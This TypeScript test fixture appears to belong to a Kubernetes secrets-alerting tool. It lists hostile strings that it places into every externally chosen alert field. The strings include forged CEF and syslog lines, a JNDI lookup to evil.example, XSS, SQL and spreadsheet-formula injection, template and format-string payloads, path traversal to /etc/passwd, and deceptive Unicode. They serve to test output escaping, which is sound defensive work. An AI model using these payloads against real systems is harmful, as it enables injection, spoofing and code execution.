import type { Alert } from '../../../src/model/alert.ts';
import { alertWith } from '../../cli/alert-fixture.ts';

/** What who chooses a name, a user agent or an audit ID may write. */
export const NASTY: readonly string[] = [
  '',
  ' ',
  'a|b',
  'back\\slash\\',
  'suser=root act=delete',
  'end=1\nCEF:0|Other|Product|1|x|forged|10|',
  '\r\n<13>1 2026-01-01T00:00:00Z forged - - - - line',
  '"] [forged@1 a="b',
  '"},{"forged":true,"x":"',
  '<!channel> <@U123> <https://evil.example|click>',
  '&lt;!here&gt;',
  '*bold* _it_ ~no~ `code` ```block```',
  '<script>alert(1)</script>',
  '\u202egnp.exe',
  '\u200b\u2066hidden\u2069',
  '\u2028\u2029\u0085\u000b\u000c',
  '\u0000\u001b[31mred\u0007',
  '\ud800 half',
  'half \udc00',
  '🔑🗝️',
  '__proto__',
  'constructor',
  '$'.concat('{jndi:ldap://evil.example/a}'),
  '{{ .Labels }} {{printf "%s" .}}',
  '%s%n%x',
  '=cmd|/c calc',
  "'; DROP TABLE alerts;--",
  'x'.repeat(70_000),
  '\u0301'.repeat(500),
  '../../etc/passwd',
  'curl/8 https://evil.example/login #general @here',
  `x${'🔑'.repeat(2_000)}`,
  '\u{e0041}\u{e007f}\ufeff\u2060\u061c',
  '-1e999',
];

/** An alert in which everything that somebody outside chooses is this text. */
export function alertOf(text: string): Alert {
  const base = alertWith();
  const [reason] = base.reasons;
  const [evidence] = base.evidence;
  return alertWith({
    cluster: text,
    title: `Secrets enumerated: ${text}`,
    summary: text,
    principal: {
      ...base.principal,
      username: text,
      uid: text,
      namespace: text,
      name: text,
      groups: [text],
      impersonatedBy: text,
      cloudRoles: [text],
    },
    workload: { pod: text, podUid: text, node: text, owner: text },
    team: { name: text, contact: text, source: text },
    credential: { id: text, kind: 'bound-token', issuedBy: text, issuedAt: null },
    source: { ip: text, class: 'other', forwarded: [text] },
    userAgent: text,
    secrets: [{ namespace: text, name: text, verb: 'get', count: 1, team: text, issuer: text }],
    reasons: [{ ...(reason as Alert['reasons'][number]), text, baseline: text }],
    evidence: [{ ...(evidence as Alert['evidence'][number]), auditID: text, verb: text, namespace: text, name: text }],
    decision: { kind: 'acknowledge', by: text, reason: text, time: base.time, owner: text, expires: null },
  });
}
